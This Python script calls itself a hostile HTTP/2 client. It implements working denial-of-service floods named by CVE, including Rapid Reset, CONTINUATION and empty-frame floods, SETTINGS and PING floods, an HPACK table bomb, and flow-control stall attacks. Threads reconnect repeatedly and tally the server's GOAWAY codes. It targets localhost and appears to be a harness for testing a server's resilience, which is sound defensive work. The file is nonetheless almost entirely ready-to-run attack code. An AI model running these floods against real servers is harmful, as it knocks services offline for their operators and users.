"""A hostile client of HTTP/2: python http2.py ATTACK PORT PATH SECONDS

Opens a connection, floods it, and opens the next one when that was ended, for so many seconds. Says at last, in JSON, how many
connections it opened, how many of them the server ended, with which error codes of GOAWAY, and how much was sent.
"""

import json
import select
import socket
import sys
import threading
import time

import h2.config
import h2.connection
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, SettingsFrame, WindowUpdateFrame,
)

THREADS = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AT_ONCE = 64 * 1024


def fields(path, method="GET"):
    return [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)]


def opening(settings=None):
    return PREFACE + SettingsFrame(settings=settings or {}).serialize()


def rapid_reset(path):
    """CVE-2023-44487: each request is taken back before it can be answered. By the real library."""
    client = h2.connection.H2Connection(config=h2.config.H2Configuration(header_encoding="utf-8"))
    client.initiate_connection()
    for _ in range(50): # Pixy bears fewer; making them costs the library so much that there is no time for more
        stream = client.get_next_available_stream_id()
        client.send_headers(stream, fields(path), end_stream=True)
        client.reset_stream(stream, error_code=8)
    while True:
        yield client.data_to_send() or client.ping(b"12345678") or client.data_to_send()


def continuation(path):
    """CVE-2024-27316 and its kind: a head that never ends, in frames as large as they may be."""
    yield opening() + HeadersFrame(1, Encoder().encode(fields(path)), flags=["END_STREAM"]).serialize()
    encoder, filling = Encoder(), "a" * 16_000
    while True:
        yield ContinuationFrame(1, encoder.encode([("x-filling", filling)], huffman=False)[:16_384]).serialize()


def empty_continuation(path):
    """The same with nothing in the frames: no limit of bytes is ever reached."""
    yield opening() + HeadersFrame(1, Encoder().encode(fields(path)), flags=["END_STREAM"]).serialize()
    frames = ContinuationFrame(1).serialize() * 1000
    while True:
        yield frames


def settings(_path):
    """CVE-2019-9515: each SETTINGS wants an answer, and nobody reads them."""
    yield opening()
    frames = SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * 1000
    while True:
        yield frames


def ping(_path):
    """CVE-2019-9512: the same with PING."""
    yield opening()
    frames = PingFrame(opaque_data=b"12345678").serialize() * 1000
    while True:
        yield frames


def empty_data(path):
    """CVE-2019-9518: a body of frames without a byte."""
    yield opening() + HeadersFrame(1, Encoder().encode(fields(path, "POST")), flags=["END_HEADERS"]).serialize()
    frames = DataFrame(1).serialize() * 1000
    while True:
        yield frames


def hpack_bomb(path):
    """One large entry of the table, and a thousand references of one byte to it, in every stream."""
    yield opening()
    encoder = Encoder()
    first = encoder.encode([*fields(path), ("x-bomb", "b" * 3900)], huffman=False)
    for stream in range(1, 20_000, 2):
        block = first if stream == 1 else encoder.encode(fields(path))
        yield HeadersFrame(stream, block + b"\xbe" * 10_000, flags=["END_HEADERS", "END_STREAM"]).serialize()


def window_stall(path):
    """CVE-2019-9511, CVE-2019-9517: as many answers as it can get, and room for one byte of each."""
    yield opening({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    encoder = Encoder()
    for stream in range(1, 200, 2):
        yield HeadersFrame(stream, encoder.encode(fields(path)), flags=["END_HEADERS", "END_STREAM"]).serialize()
        yield WindowUpdateFrame(stream, window_increment=1).serialize()
    while True: # and never silent
        time.sleep(0.05)
        yield PingFrame(opaque_data=b"12345678").serialize()


def slow_streams(path):
    """As many bodies as it can begin, and none that ends."""
    yield opening()
    encoder = Encoder()
    for stream in range(1, 200, 2):
        yield HeadersFrame(stream, encoder.encode(fields(path, "POST")), flags=["END_HEADERS"]).serialize()
    while True:
        time.sleep(0.05)
        yield PingFrame(opaque_data=b"12345678").serialize()


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, continuation, empty_continuation, settings, ping, empty_data, hpack_bomb, window_stall, slow_streams,
)}
QUIET = {"settings", "ping"} # do not read what they are sent


class Tally:
    def __init__(self):
        self.lock = threading.Lock()
        self.connections = self.ended = self.bytes = 0
        self.goaways = {}


def connect(port, until):
    while time.monotonic() < until:
        try:
            peer = socket.create_connection(("127.0.0.1", port), timeout=2)
            peer.setblocking(False)
            return peer
        except OSError:
            time.sleep(0.01)
    return None


def codes(received):
    """The codes of GOAWAY among whole frames; takes them away."""
    found = []
    while len(received) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(bytes(received[:9])))
        if len(received) < 9 + length:
            break
        if isinstance(frame, GoAwayFrame):
            frame.parse_body(memoryview(bytes(received[9:9 + length])))
            found.append(frame.error_code)
        del received[:9 + length]
    return found


def one_connection(attack, peer, path, until, tally):
    """Floods until the server has enough, or the time is over."""
    pieces, pending, received, goaways, sent, over = ATTACKS[attack](path), b"", bytearray(), [], 0, False
    while not over and time.monotonic() < until:
        if not pending:
            more = []
            while sum(map(len, more)) < AT_ONCE and (piece := next(pieces, None)):
                more.append(piece)
                if attack in ("window_stall", "slow_streams"):
                    break
            pending = b"".join(more)
        readers = [] if attack in QUIET else [peer]
        readable, writable, _ = select.select(readers, [peer] if pending else [], [], 0.1)
        try:
            if readable:
                data = peer.recv(AT_ONCE)
                over = not data
                received += data
                goaways += codes(received)
            elif writable: # what was answered is read first
                count = peer.send(pending)
                sent, pending = sent + count, pending[count:]
        except BlockingIOError:
            pass
        except OSError:
            over = True
    peer.close()
    with tally.lock:
        tally.connections += 1
        tally.ended += over
        tally.bytes += sent
        for code in goaways:
            tally.goaways[code] = tally.goaways.get(code, 0) + 1


def many_connections(attack, port, path, until, tally):
    while time.monotonic() < until and (peer := connect(port, until)):
        one_connection(attack, peer, path, until, tally)


def main():
    attack, port, path, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    until, tally = time.monotonic() + seconds, Tally()
    count = 12 if attack in ("window_stall", "slow_streams") else THREADS # times 100 streams: more than Pixy has room for
    threads = [threading.Thread(target=many_connections, args=(attack, port, path, until, tally)) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"connections": tally.connections, "ended": tally.ended, "bytes": tally.bytes, "goaways": tally.goaways}))


main()
